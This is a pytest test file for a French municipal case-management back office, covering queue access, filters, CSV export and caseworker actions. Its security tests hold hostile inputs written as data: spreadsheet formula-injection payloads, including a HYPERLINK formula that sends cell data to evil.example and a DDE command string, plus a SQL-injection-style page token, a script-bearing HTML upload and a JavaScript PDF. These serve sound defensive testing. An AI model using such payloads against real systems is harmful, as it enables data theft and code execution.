"""The agents' back office: queue, filters, search, CSV export, a case's page and its actions."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from socle.core.blobs import blob_put
from socle.core.models import AuditEvent, IdentityAssurance
from socle.core.services import citizen_profile_set
from socle.core.uploads import upload_handle_create
from socle.portal import selectors
from socle.portal.models import Case, CaseDocument, CaseEvent, CaseEventKind, DocumentKind
from socle.portal.services import case_assign, case_submit, case_transition
from tests.support.clients import signed_in
from tests.support.downloads import served_name
from tests.support.pdf_samples import catalog, pdf_file

GOOD = {"nom": "Martin", "motif": "perte"}
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def file_case(procedure, citizen, commune=None, data=None):
    offered = selectors.procedure_offered_get(slug=procedure.slug, commune=commune)
    return case_submit(actor=citizen, offered=offered, data=data or GOOD)


def clone(case, count, **changes):
    """Copy a filed case ``count`` times, older and older, with new numbers (list volume)."""
    copies = []
    start = Case.objects.filter(number__startswith="2099-").count()
    for index in range(start, start + count):
        copy = Case.objects.get(pk=case.pk)
        copy.pk = None
        copy.number = f"2099-{index:06d}"
        copy.submitted_at = case.submitted_at - timedelta(seconds=index + 1)
        for key, value in changes.items():
            setattr(copy, key, value)
        copy.save()
        copies.append(copy)
    return copies


def queue_numbers(client, **params) -> list[str]:
    response = client.get(reverse("portal:queue"), params)
    assert response.status_code == 200
    return [row.number for row in response.context["rows"]]


@pytest.fixture
def parking(territory, publish):
    return publish(territory["compiegne"], "carte-stationnement", title="Carte de stationnement")


@pytest.fixture
def venette_case(territory, publish, make_user):
    procedure = publish(territory["venette"], "encombrants-venette", title="Encombrants")
    resident = make_user("dominique@exemple.fr", commune=territory["venette"])
    return file_case(procedure, resident, data={"nom": "Dupont", "motif": "vol"})


@pytest.fixture
def case(parking, citizen):
    return file_case(parking, citizen)


# ---------------------------------------------------------------------- who may enter


def test_the_case_history_names_the_statuses_moved_from_and_to(case, caseworker):
    case_transition(actor=caseworker, case=case, to="in_instruction")
    page = signed_in(caseworker).get(reverse("portal:agent_case", args=[case.number])).content.decode()
    assert "Statut : Déposé → En instruction" in page


def test_the_queue_lists_only_the_cases_of_the_agents_communes(case, venette_case, caseworker,
                                                               other_caseworker):
    assert queue_numbers(signed_in(caseworker)) == [case.number]
    assert queue_numbers(signed_in(other_caseworker)) == [venette_case.number]


def test_a_citizen_without_a_role_is_refused_the_back_office(case, citizen):
    client = signed_in(citizen)
    for url in (reverse("portal:queue"), reverse("portal:queue_export"),
                reverse("portal:agent_case", args=[case.number])):
        response = client.get(url)
        assert response.status_code == 403
        assert "réservé aux agents" in response.content.decode()
    response = client.post(reverse("portal:agent_case_transition", args=[case.number]),
                           {"to": "in_instruction"})
    assert response.status_code == 403
    assert Case.objects.get(pk=case.pk).status == "submitted"


def test_a_visitor_is_sent_to_sign_in(case):
    response = Client().get(reverse("portal:queue"))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("core:login"))


def test_an_agent_of_another_commune_gets_404_on_the_case_and_its_actions(case, other_caseworker):
    client = signed_in(other_caseworker)
    assert client.get(reverse("portal:agent_case", args=[case.number])).status_code == 404
    response = client.post(reverse("portal:agent_case_transition", args=[case.number]),
                           {"to": "in_instruction"})
    assert response.status_code == 404
    response = client.post(reverse("portal:agent_case_comment", args=[case.number]),
                           {"text": "Vu."})
    assert response.status_code == 404
    assert Case.objects.get(pk=case.pk).status == "submitted"
    assert not CaseEvent.objects.filter(case=case, kind=CaseEventKind.COMMENT).exists()


def test_an_agent_who_filed_a_case_as_a_resident_elsewhere_does_not_see_it_as_an_agent(
        parking, territory, make_user):
    agent = make_user(commune=territory["compiegne"],
                      roles=[(territory["venette"], "portal.caseworker")])
    own = file_case(parking, agent)
    assert signed_in(agent).get(reverse("portal:agent_case", args=[own.number])).status_code == 404


def test_the_agent_home_links_to_the_queue_for_caseworkers_only(caseworker, editor):
    queue = f'href="{reverse("portal:queue")}"'
    assert queue in signed_in(caseworker).get(reverse("core:agent_home")).content.decode()
    assert queue not in signed_in(editor).get(reverse("core:agent_home")).content.decode()


# ---------------------------------------------------------------------- filters, search


def test_the_status_filter(case, caseworker, citizen, parking):
    other = file_case(parking, citizen)
    case_transition(actor=caseworker, case=other, to="in_instruction")
    client = signed_in(caseworker)
    assert queue_numbers(client, status="in_instruction") == [other.number]
    assert queue_numbers(client, status="submitted") == [case.number]


def test_each_row_shows_the_status_label_of_the_revision_its_case_was_filed_under(
        parking, citizen, caseworker, editor):
    import copy

    from socle.portal.services import procedure_publish, procedure_update
    from socle.portal.workflow import DEFAULT_WORKFLOW

    before = file_case(parking, citizen)
    client = signed_in(caseworker)
    # The first page view keeps the published revision's labels in memory.
    assert client.get(reverse("portal:queue")).status_code == 200
    workflow = copy.deepcopy(DEFAULT_WORKFLOW)
    for status in workflow["statuses"]:
        if status["key"] == "submitted":
            status["label"] = "Reçu en mairie"
    procedure_update(actor=editor, procedure=parking, workflow=workflow)
    procedure_publish(actor=editor, procedure=parking)
    after = file_case(parking, citizen)

    response = client.get(reverse("portal:queue"))
    labels = {row.number: row.status for row in response.context["rows"]}
    assert labels[before.number] == "Déposé"
    assert labels[after.number] == "Reçu en mairie"
    # The status filter offers the labels of the procedures' published revisions.
    assert dict(response.context["statuses"])["submitted"] == "Déposé"
    assert "draft" not in dict(response.context["statuses"])


def test_the_procedure_filter(case, caseworker, citizen, territory, publish):
    school = publish(territory["compiegne"], "inscription-scolaire", title="Inscription scolaire")
    enrolment = file_case(school, citizen)
    client = signed_in(caseworker)
    assert queue_numbers(client, procedure="inscription-scolaire") == [enrolment.number]
    assert queue_numbers(client, procedure="carte-stationnement") == [case.number]


def test_the_assignment_filter(case, caseworker, citizen, parking, territory, make_user):
    colleague = make_user("collegue@exemple.fr", roles=[(territory["compiegne"],
                                                         "portal.caseworker")])
    mine = file_case(parking, citizen)
    theirs = file_case(parking, citizen)
    case_assign(actor=caseworker, case=mine, agent=caseworker)
    case_assign(actor=caseworker, case=theirs, agent=colleague)
    client = signed_in(caseworker)
    assert queue_numbers(client, assigned="me") == [mine.number]
    assert queue_numbers(client, assigned="none") == [case.number]
    assert queue_numbers(client, assigned="collegue@exemple.fr") == [theirs.number]
    assert "collegue@exemple.fr" in client.get(reverse("portal:queue")).content.decode()


def test_the_organisation_filter_for_an_agent_of_the_agglomeration(case, venette_case, territory,
                                                                   make_user):
    arc_agent = make_user(roles=[(territory["arc"], "portal.caseworker")])
    client = signed_in(arc_agent)
    assert set(queue_numbers(client)) == {case.number, venette_case.number}
    assert queue_numbers(client, organisation="venette") == [venette_case.number]


def test_overdue_cases_are_filtered_and_flagged(case, caseworker, citizen, parking):
    late = file_case(parking, citizen)
    Case.objects.filter(pk=late.pk).update(
        decision_due_on=timezone.localdate() - timedelta(days=1))
    client = signed_in(caseworker)
    assert queue_numbers(client, overdue="1") == [late.number]
    rows = {row.number: row.overdue
            for row in client.get(reverse("portal:queue")).context["rows"]}
    assert rows == {late.number: True, case.number: False}
    assert "En retard" in client.get(reverse("portal:queue"), {"overdue": "1"}).content.decode()
    page = client.get(reverse("portal:agent_case", args=[late.number])).content.decode()
    assert "délai de décision dépassé" in page


def test_a_closed_case_past_its_date_is_not_overdue(case, caseworker):
    case_transition(actor=caseworker, case=case, to="closed", comment="Doublon.")
    Case.objects.filter(pk=case.pk).update(
        decision_due_on=timezone.localdate() - timedelta(days=1))
    assert queue_numbers(signed_in(caseworker), overdue="1") == []


def test_search_by_number_and_by_name(case, caseworker, parking, make_user, territory):
    other_citizen = make_user("lea@exemple.fr", commune=territory["compiegne"])
    other_citizen.first_name, other_citizen.last_name = "Léa", "Bernardin"
    other_citizen.save()
    other = file_case(parking, other_citizen)
    client = signed_in(caseworker)
    assert queue_numbers(client, q=case.number) == [case.number]
    assert queue_numbers(client, q="bernardin") == [other.number]
    assert queue_numbers(client, q="camille@exemple.fr") == [case.number]
    assert queue_numbers(client, q="personne-inconnue") == []


def test_the_queue_pages_by_position_without_losing_or_repeating_a_case(case, caseworker):
    clone(case, 59)
    client = signed_in(caseworker)
    first = client.get(reverse("portal:queue"))
    numbers = [row.number for row in first.context["rows"]]
    assert len(numbers) == 50 and numbers[0] == case.number
    assert first.context["total"] == 60
    assert not first.context["previous_url"]
    second = client.get(reverse("portal:queue") + first.context["next_url"])
    later = [row.number for row in second.context["rows"]]
    assert len(later) == 10 and not set(later) & set(numbers)
    assert not second.context["next_url"]
    back = client.get(reverse("portal:queue") + second.context["previous_url"])
    assert [row.number for row in back.context["rows"]] == numbers


def test_a_tampered_page_position_shows_the_first_page(case, caseworker):
    client = signed_in(caseworker)
    for tampered in ("x'; drop", "99999999999999999999999.1", "1.99999999999999999999999"):
        for direction in ("apres", "avant"):
            response = client.get(reverse("portal:queue"), {direction: tampered})
            assert response.status_code == 200
            assert [row.number for row in response.context["rows"]] == [case.number]


def test_filters_with_nul_characters_do_not_break_the_queue(case, caseworker):
    client = signed_in(caseworker)
    for name in ("q", "status", "procedure", "assigned", "organisation"):
        assert client.get(reverse("portal:queue"), {name: "a\x00b"}).status_code == 200
    assert client.get(reverse("portal:queue_export"), {"q": "\x00"}).status_code == 200


def test_the_queue_costs_the_same_number_of_queries_for_5_and_25_cases(
        case, caseworker, territory, make_user, django_assert_num_queries):
    colleague = make_user(roles=[(territory["compiegne"], "portal.caseworker")])
    clone(case, 4, assigned_to=colleague)
    client = signed_in(caseworker)
    client.get(reverse("portal:queue"))  # warm the session
    with CaptureQueriesContext(connection) as five:
        assert len(client.get(reverse("portal:queue")).context["rows"]) == 5
    clone(case, 20, assigned_to=caseworker)
    Case.objects.filter(pk=case.pk).update(
        decision_due_on=timezone.localdate() - timedelta(days=3))
    with django_assert_num_queries(len(five.captured_queries)):
        assert len(client.get(reverse("portal:queue")).context["rows"]) == 25


def test_a_full_page_costs_the_same_number_of_queries_at_60_and_120_cases(
        case, caseworker, django_assert_num_queries):
    clone(case, 59)
    client = signed_in(caseworker)
    client.get(reverse("portal:queue"))
    with CaptureQueriesContext(connection) as sixty:
        assert client.get(reverse("portal:queue")).context["total"] == 60
    clone(case, 60)
    with django_assert_num_queries(len(sixty.captured_queries)):
        assert client.get(reverse("portal:queue")).context["total"] == 120


# --------------------------------------------------------------------------- export


def read_csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf"), "a byte order mark tells Excel it is UTF-8"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def test_the_csv_export_lists_the_filtered_cases_with_semicolons(case, venette_case, caseworker,
                                                                 citizen, parking):
    accepted = file_case(parking, citizen)
    case_transition(actor=caseworker, case=accepted, to="in_instruction")
    response = signed_in(caseworker).get(reverse("portal:queue_export"),
                                         {"status": "in_instruction"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert served_name(response).startswith("dossiers-")
    assert served_name(response).endswith(".csv")
    header, *rows = read_csv(response)
    assert header[:3] == ["Numéro", "Démarche", "Organisation"]
    assert [row[0] for row in rows] == [accepted.number]
    assert rows[0][header.index("Statut")] == "En instruction"
    assert rows[0][header.index("Identité")] == "adresse électronique"
    assert AuditEvent.objects.filter(action="case.export", actor=caseworker).exists()


def test_the_csv_export_costs_the_same_number_of_queries_for_5_and_25_cases(case, caseworker):
    clone(case, 4)
    client = signed_in(caseworker)
    client.get(reverse("portal:queue"))  # what a session pays once (its gates) is paid here
    with CaptureQueriesContext(connection) as five:
        assert len(read_csv(client.get(reverse("portal:queue_export")))) == 6
    clone(case, 20)
    with CaptureQueriesContext(connection) as twenty_five:
        assert len(read_csv(client.get(reverse("portal:queue_export")))) == 26
    assert len(twenty_five.captured_queries) == len(five.captured_queries)


def test_the_csv_export_never_includes_another_communes_cases(case, venette_case, caseworker):
    _, *rows = read_csv(signed_in(caseworker).get(reverse("portal:queue_export")))
    assert [row[0] for row in rows] == [case.number]


def test_the_csv_export_neutralises_formulas(parking, caseworker, territory, make_user):
    attacker = make_user("attaquant@exemple.fr", commune=territory["compiegne"])
    attacker.first_name = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
    attacker.save()
    file_case(parking, attacker, data={"nom": "+SUM(1,2)", "motif": "perte",
                                       "precisions": "@cmd|' /C calc'!A0"})
    response = signed_in(caseworker).get(reverse("portal:queue_export"),
                                         {"procedure": "carte-stationnement"})
    header, row = read_csv(response)
    assert row[header.index("Demandeur")].startswith("'=HYPERLINK")
    assert row[header.index("Nom")] == "'+SUM(1,2)"
    assert row[header.index("Précisions")] == "'@cmd|' /C calc'!A0"
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in row)


# ---------------------------------------------------------------------- a case's page


def test_the_case_page_shows_answers_by_label_with_groups_files_and_addresses(
        territory, publish, citizen, caseworker):
    fields = [
        {"name": "nom", "label": "Nom de famille", "type": "text", "required": True},
        {"name": "motif", "label": "Motif", "type": "choice",
         "choices": [{"value": "perte", "label": "Perte du document"}]},
        {"name": "adresse", "label": "Adresse du problème", "type": "address"},
        {"name": "photo", "label": "Photo", "type": "file"},
        {"name": "enfants", "label": "Enfants", "type": "group", "fields": [
            {"name": "prenom", "label": "Prénom", "type": "text"}]},
    ]
    procedure = publish(territory["compiegne"], "signalement", fields=fields,
                        title="Signaler un problème")
    blob = blob_put(stream=io.BytesIO(PDF)).blob
    handle, _ = upload_handle_create(actor=citizen, blob=blob, name="photo-trottoir.pdf")
    filed = file_case(procedure, citizen, data={
        "nom": "Martin", "motif": "perte",
        "adresse": {"street": "2 rue Solférino", "postal_code": "60200", "city": "Compiègne"},
        "photo": [{"upload": handle, "name": "photo-trottoir.pdf"}],
        "enfants": [{"prenom": "Léa"}, {"prenom": "Hugo"}],
    })
    response = signed_in(caseworker).get(reverse("portal:agent_case", args=[filed.number]))
    assert response.status_code == 200
    page = response.content.decode()
    for text in ("Nom de famille", "Perte du document", "2 rue Solférino", "60200 Compiègne",
                 "Enfants — ligne 2", "Hugo", "Signaler un problème"):
        assert text in page
    attachment = CaseDocument.objects.get(case=filed, field="photo")
    link = reverse("portal:document_download", args=[filed.number, attachment.pk])
    assert f'href="{link}"' in page
    download = signed_in(caseworker).get(link)
    assert download.status_code == 200
    assert b"".join(download.streaming_content) == PDF


def test_the_case_page_shows_the_identity_assurance(parking, caseworker, territory, make_user):
    verified = make_user("verifie@exemple.fr")
    citizen_profile_set(actor=None, user=verified, home_commune=territory["compiegne"],
                        identity_assurance=IdentityAssurance.FRANCECONNECT)
    by_fc = file_case(parking, verified)
    by_email = file_case(parking, make_user(commune=territory["compiegne"]))
    client = signed_in(caseworker)
    fc_page = client.get(reverse("portal:agent_case", args=[by_fc.number])).content.decode()
    email_page = client.get(reverse("portal:agent_case", args=[by_email.number])).content.decode()
    assert 'badge-franceconnect">FranceConnect</span>' in fc_page
    assert '<span class="badge">adresse électronique</span>' in email_page


def test_the_case_page_offers_only_the_transitions_the_workflow_allows(case, caseworker):
    response = signed_in(caseworker).get(reverse("portal:agent_case", args=[case.number]))
    offered = {t.target for t in response.context["transitions"]}
    # Nothing is due on this free procedure: no waiting for a payment.
    assert offered == {"in_instruction", "closed"}
    assert 'value="accepted"' not in response.content.decode()


# -------------------------------------------------------------------------- actions


def test_a_transition_moves_the_case_and_is_journaled(case, caseworker):
    client = signed_in(caseworker)
    response = client.post(reverse("portal:agent_case_transition", args=[case.number]),
                           {"to": "in_instruction", "comment": ""})
    assert response.status_code == 302
    assert response["Location"] == reverse("portal:agent_case", args=[case.number])
    assert Case.objects.get(pk=case.pk).status == "in_instruction"
    assert AuditEvent.objects.filter(action="case.transition", actor=caseworker,
                                     data__to="in_instruction").exists()
    page = client.get(response["Location"]).content.decode()
    assert "Le dossier est passé au statut « En instruction »." in page


def test_a_transition_the_workflow_forbids_is_refused_with_409_in_french(case, caseworker):
    response = signed_in(caseworker).post(
        reverse("portal:agent_case_transition", args=[case.number]),
        {"to": "accepted", "comment": "Accordé."})
    assert response.status_code == 409
    page = response.content.decode()
    assert "Le dossier ne peut pas passer de « Déposé » à « Accepté »." in page
    assert 'class="error-summary"' in page
    assert Case.objects.get(pk=case.pk).status == "submitted"


def test_a_refusal_without_motivation_is_refused_with_409(case, caseworker):
    case_transition(actor=caseworker, case=case, to="in_instruction")
    response = signed_in(caseworker).post(
        reverse("portal:agent_case_transition", args=[case.number]), {"to": "refused"})
    assert response.status_code == 409
    assert "motivation écrite est obligatoire" in response.content.decode()
    assert Case.objects.get(pk=case.pk).status == "in_instruction"


def test_an_assignment_is_journaled_and_shown(case, caseworker, territory, make_user):
    colleague = make_user("collegue@exemple.fr", roles=[(territory["compiegne"],
                                                         "portal.caseworker")])
    client = signed_in(caseworker)
    response = client.post(reverse("portal:agent_case_assign", args=[case.number]),
                           {"agent": str(colleague.pk)})
    assert response.status_code == 302
    assert Case.objects.get(pk=case.pk).assigned_to == colleague
    event = AuditEvent.objects.get(action="case.assign")
    assert event.data["agent"] == "collegue@exemple.fr"
    assert event.actor == caseworker
    assert CaseEvent.objects.filter(case=case, kind=CaseEventKind.ASSIGNMENT).exists()


def test_an_assignment_to_an_agent_of_another_commune_is_refused(case, caseworker,
                                                                 other_caseworker):
    response = signed_in(caseworker).post(
        reverse("portal:agent_case_assign", args=[case.number]),
        {"agent": str(other_caseworker.pk)})
    assert response.status_code == 400
    assert "Choisissez un agent qui instruit" in response.content.decode()
    assert Case.objects.get(pk=case.pk).assigned_to is None


def test_a_private_comment_is_journaled_and_marked_internal(case, caseworker, citizen):
    client = signed_in(caseworker)
    response = client.post(reverse("portal:agent_case_comment", args=[case.number]),
                           {"text": "Pièce à vérifier auprès du service."})
    assert response.status_code == 302
    assert AuditEvent.objects.filter(action="case.comment", actor=caseworker).exists()
    page = client.get(reverse("portal:agent_case", args=[case.number])).content.decode()
    assert "Commentaire interne" in page and "Pièce à vérifier auprès du service." in page
    assert "<strong>Interne</strong> : non visible par l'usager" in page
    citizen_page = signed_in(citizen).get(reverse("portal:case_detail", args=[case.number]))
    assert "Pièce à vérifier" not in citizen_page.content.decode()


def test_an_empty_comment_is_refused_with_a_french_error_summary(case, caseworker):
    response = signed_in(caseworker).post(
        reverse("portal:agent_case_comment", args=[case.number]), {"text": "  "})
    assert response.status_code == 400
    page = response.content.decode()
    assert 'class="error-summary"' in page
    assert 'href="#comment_text"' in page and "Écrivez le commentaire." in page


def test_a_message_reaches_the_citizen_and_is_journaled(case, caseworker, citizen,
                                                        django_capture_on_commit_callbacks):
    client = signed_in(caseworker)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("portal:agent_case_message", args=[case.number]),
                               {"text": "Merci de passer en mairie avec l'original."})
    assert response.status_code == 302
    assert AuditEvent.objects.filter(action="case.message", actor=caseworker,
                                     data__from_citizen=False).exists()
    citizen_page = signed_in(citizen).get(reverse("portal:case_detail", args=[case.number]))
    assert "Merci de passer en mairie" in citizen_page.content.decode()


def test_an_agent_attaches_a_document_the_citizen_can_download(case, caseworker, citizen):
    upload = io.BytesIO(PDF)
    upload.name = "arrete-stationnement.pdf"
    response = signed_in(caseworker).post(
        reverse("portal:agent_case_document", args=[case.number]),
        {"file": upload, "visible_to_citizen": "on"})
    assert response.status_code == 302
    document = CaseDocument.objects.get(case=case, kind=DocumentKind.AGENT)
    assert document.name == "arrete-stationnement.pdf"
    assert AuditEvent.objects.filter(action="case.document_add").exists()
    download = signed_in(citizen).get(
        reverse("portal:document_download", args=[case.number, document.pk]))
    assert b"".join(download.streaming_content) == PDF


def test_a_case_file_downloads_under_the_extension_of_its_content(case, caseworker, citizen):
    upload = io.BytesIO(PDF)
    upload.name = "facture.exe"
    signed_in(caseworker).post(reverse("portal:agent_case_document", args=[case.number]),
                               {"file": upload, "visible_to_citizen": "on"})
    document = CaseDocument.objects.get(case=case, kind=DocumentKind.AGENT)
    url = reverse("portal:document_download", args=[case.number, document.pk])
    for person in (citizen, caseworker):
        download = signed_in(person).get(url)
        assert served_name(download) == "facture.pdf"
        assert download["Content-Type"] == "application/pdf"


def test_a_disguised_upload_is_refused_in_french(case, caseworker):
    upload = io.BytesIO(b"<html><script>alert(1)</script></html>")
    upload.name = "courrier.pdf"
    response = signed_in(caseworker).post(
        reverse("portal:agent_case_document", args=[case.number]), {"file": upload})
    assert response.status_code == 400
    assert "pas accepté (text/html)" in response.content.decode()
    assert not CaseDocument.objects.filter(case=case, kind=DocumentKind.AGENT).exists()


def test_a_pdf_with_a_script_is_refused_in_french(case, caseworker):
    upload = io.BytesIO(pdf_file(catalog(b"/OpenAction << /S /J#61vaScript /JS (x) >>")))
    upload.name = "arrete.pdf"
    response = signed_in(caseworker).post(
        reverse("portal:agent_case_document", args=[case.number]), {"file": upload})
    assert response.status_code == 400
    assert "Ce PDF contient du JavaScript" in response.content.decode()
    assert not CaseDocument.objects.filter(case=case, kind=DocumentKind.AGENT).exists()


def test_an_oversized_upload_is_refused_with_413(case, caseworker, settings):
    settings.BLOB_MAX_SIZE = 1024
    upload = io.BytesIO(PDF + b"0" * 4096)
    upload.name = "gros.pdf"
    response = signed_in(caseworker).post(
        reverse("portal:agent_case_document", args=[case.number]), {"file": upload})
    assert response.status_code == 413
    assert not CaseDocument.objects.filter(case=case, kind=DocumentKind.AGENT).exists()


def test_an_agent_sets_the_amount_of_a_penalty(territory, publish, citizen, caseworker):
    penalty = publish(territory["compiegne"], "penalite", title="Pénalité", fee_kind="agent")
    filed = file_case(penalty, citizen)
    client = signed_in(caseworker)
    assert "Fixer le montant à payer" in client.get(
        reverse("portal:agent_case", args=[filed.number])).content.decode()
    response = client.post(reverse("portal:agent_case_amount", args=[filed.number]),
                           {"amount": "35,50"})
    assert response.status_code == 302
    assert Case.objects.get(pk=filed.pk).amount_due == Decimal("35.50")
    assert AuditEvent.objects.filter(action="case.amount", data__amount="35.50").exists()


def test_the_amount_of_a_free_procedure_cannot_be_set(case, caseworker):
    response = signed_in(caseworker).post(
        reverse("portal:agent_case_amount", args=[case.number]), {"amount": "10"})
    assert response.status_code == 409
    assert Case.objects.get(pk=case.pk).amount_due == Decimal("0.00")



def test_the_case_actions_open_one_at_a_time_and_a_refusal_sits_beside_its_form(case, caseworker):
    client = signed_in(caseworker)
    page = client.get(reverse("portal:agent_case", args=[case.number])).content.decode()
    opened = [line for line in page.splitlines() if line.startswith("<details class=\"action\"")]
    assert len(opened) >= 5 and all('name="actions-dossier"' in line for line in opened)
    assert [line for line in opened if " open>" in line] == [
        line for line in opened if 'id="action-transition"' in line]  # the main action, open
    # An empty message: the page comes back with that form open, its error next to it.
    refused = client.post(reverse("portal:agent_case_message", args=[case.number]), {"text": ""})
    assert refused.status_code == 400
    page = refused.content.decode()
    opened = [line for line in page.splitlines() if line.startswith("<details class=\"action\"")
              and " open>" in line]
    assert len(opened) == 1 and 'id="action-message"' in opened[0]
    section = page[page.index('id="action-message"'):]
    section = section[:section.index("</details>")]
    assert "error-message" in section
    # A refusal from the service (a decision the status does not allow) is shown in its form.
    conflict = client.post(reverse("portal:agent_case_transition", args=[case.number]),
                           {"to": "accepted", "comment": ""})
    assert conflict.status_code == 409
    page = conflict.content.decode()
    section = page[page.index('id="action-transition"'):]
    section = section[:section.index("</details>")]
    assert 'role="alert"' in section and "ne peut pas passer" in section
    assert 'href="#action-transition"' in page
